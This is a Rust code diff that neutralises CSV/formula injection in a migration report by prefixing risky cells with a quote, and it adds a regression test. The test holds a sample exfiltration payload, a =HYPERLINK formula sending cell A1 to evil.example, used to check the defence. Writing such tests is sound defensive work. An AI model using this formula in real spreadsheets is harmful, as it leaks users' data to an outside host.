@@ -198,8 +198,19 @@ pub fn report_rows(rows: &[MigrationRowRecord], status: JobStatus) -> Vec<Report
         .collect()
 }
 
+/// A cell as written to the CSV report. Cells come from the upload and from Lucca, and the report
+/// is opened in a spreadsheet: one that starts with `=`, `+`, `-`, `@`, a tab or a carriage
+/// return would run as a formula (`=HYPERLINK(…)` exfiltrating the sheet), so it gets a leading
+/// `'`, which spreadsheets show as text (OWASP, "CSV Injection").
+pub fn csv_cell(value: &str) -> std::borrow::Cow<'_, str> {
+    match value.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{value}").into(),
+        _ => value.into(),
+    }
+}
+
 /// The report as CSV: `row,email,class,fields,lucca_id,message` (fields separated by `;`,
-/// `from → to` details in the message column's JSON twin only).
+/// `from → to` details in the message column's JSON twin only). Every cell through [`csv_cell`].
 pub fn report_csv(rows: &[ReportRow]) -> Result<Vec<u8>, csv::Error> {
     let mut out = csv::Writer::from_writer(Vec::new());
     out.write_record(["row", "email", "class", "fields", "lucca_id", "message"])?;
@@ -211,14 +222,15 @@ pub fn report_csv(rows: &[ReportRow]) -> Result<Vec<u8>, csv::Error> {
             }
             message.push_str(&format!("email: {n}"));
         }
-        out.write_record([
+        let cells = [
             r.row.to_string(),
             r.email.clone(),
             r.class.map(Class::as_str).unwrap_or("pending").to_string(),
             r.fields.join(";"),
             r.lucca_id.map(|i| i.to_string()).unwrap_or_default(),
             message,
-        ])?;
+        ];
+        out.write_record(cells.iter().map(|c| csv_cell(c).into_owned()))?;
     }
     out.into_inner().map_err(|e| e.into_error().into())
 }
@@ -319,5 +331,47 @@ mod tests {
             text,
             "row,email,class,fields,lucca_id,message\n2,a@acme.test,will_update,family_name;department,7,not applied: the job was cancelled\n"
         );
+    }
+
+    /// Finding 8: a person named `=HYPERLINK(…)` (and an email and a Lucca message that echo
+    /// it) must not become a formula in the spreadsheet that opens the report.
+    #[test]
+    fn formula_cells_are_neutralised_in_the_csv_report() {
+        let formula = r#"=HYPERLINK("https://evil.example/?leak="&A1,"Click")"#;
+        let rows = vec![MigrationRowRecord {
+            row_no: 2,
+            seq: 0,
+            email: format!("{formula}@acme.test"),
+            input: serde_json::json!({ "email": "x@acme.test", "given_name": formula }).to_string(),
+            class: Some("invalid_row".into()),
+            fields: None,
+            lucca_id: None,
+            message: Some(format!("{formula} is not a valid first name")),
+            done: true,
+            write_started_at: None,
+            notice: None,
+        }];
+        let csv = report_csv(&report_rows(&rows, JobStatus::Done)).unwrap();
+        let mut reader = csv::Reader::from_reader(csv.as_slice());
+        let record = reader.records().next().unwrap().unwrap();
+        assert_eq!(&record[1], format!("'{formula}@acme.test"));
+        assert_eq!(&record[5], format!("'{formula} is not a valid first name"));
+        for cell in record.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell}"
+            );
+        }
+        for (raw, written) in [
+            ("+33 1 23", "'+33 1 23"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("a=b", "a=b"),
+            ("", ""),
+        ] {
+            assert_eq!(csv_cell(raw), written);
+        }
     }
 }
